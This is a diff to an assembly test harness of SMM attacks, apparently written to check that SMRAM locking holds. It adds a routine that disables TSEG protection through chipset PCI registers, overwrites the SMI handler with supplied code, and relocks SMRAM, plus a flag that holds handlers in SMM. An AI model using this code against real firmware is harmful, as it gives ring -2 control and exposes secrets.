@@ -8,8 +8,8 @@
 ; Given from outside: TSEG, COMPAT (where SMM sees the compatible range), LOCK, HIGH, CPUS, FLASH (bytes of variables
 ; below the ROM), SECRET0-3, each XOR MASK. Routines for attacks, all of them keep all registers but results: print (the
 ; text behind the call), putc (AL), hex32 (EAX), newline, smi (command AL), pci_read32 (EBX: CONFIG_ADDRESS; gives EAX),
-; pci_write32 (EBX, EAX), pci_write8 (EBX, AL), catch (see there). `payload` is what attacks want run in SMM, 16-bit: it
-; prints PWNED and the secret. While an SMI runs, every real-mode vector leads there.
+; pci_write32 (EBX, EAX), pci_write8 (EBX, AL), catch and own_handler (see there). `payload` is what attacks want run in
+; SMM, 16-bit: it prints PWNED and the secret. While an SMI runs, every real-mode vector leads there.
 bits 16
 MASK    equ 0x5a5a5a5a
 MCH     equ 0x80000000
@@ -52,6 +52,7 @@ resume: dd 0                    ; where a fault goes on, 0: the end
 resume_esp: dd 0
 next_smbase: dd 0
 smis:   dd 0                    ; SMIs handled, both processors
+hold:   dd 0                    ; handlers stay in SMM while it is not 0
 go:     dd 0
 ap_ready: dd 0
 ap_done: dd 0
@@ -168,6 +169,20 @@ handler_to:                     ; the SMI handler to EDI
         mov ecx, handler_end - handler
         rep movsb
         ret
+
+; ECX bytes at ESI become the first processor's SMI handler, then SMRAM is locked. For attacks with `lock=no`; EAX, EBX
+; and EDI are lost.
+own_handler:
+        mov ebx, MCH | 0x9e     ; T_EN off: TSEG is RAM
+        mov al, 0
+        call pci_write8
+        mov edi, TSEG + 0x8000
+        rep movsb
+        mov al, 1
+        call pci_write8
+        mov ebx, MCH | 0x9d
+        mov al, 0x1a            ; G_SMRAME, D_LCK
+        jmp pci_write8
 
 put_secret:                     ; to EDI
         mov dword [edi], SECRET0
@@ -370,6 +385,9 @@ handler:                        ; at SMBASE + 8000h: prints s when it finds ever
         mov eax, [esi]          ; the secret lies in registers when the handler leaves, as it would
         mov ecx, [esi + 4]
         lock inc dword [dword smis]
+.hold:  pause
+        cmp dword [dword hold], 0
+        jne .hold
         rsm
 handler_end:
 
